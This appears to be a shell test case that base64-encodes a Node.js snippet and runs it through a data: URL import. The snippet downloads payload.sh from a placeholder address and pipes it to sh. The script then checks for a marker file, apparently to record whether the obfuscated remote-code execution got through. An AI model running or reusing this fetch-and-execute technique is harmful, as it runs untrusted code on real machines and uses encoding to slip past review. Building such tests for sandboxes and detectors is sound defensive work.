#!/bin/sh
. /opt/case/case.sh

code=$(printf '%s' 'import{execSync as e}from"child_process";const r=await fetch("http://203.0.113.10/payload.sh");e("sh",{input:await r.text()});' | base64 -w0)
node --input-type=module -e "await import('data:text/javascript;base64,$code')"
test -e /tmp/reached
took_place
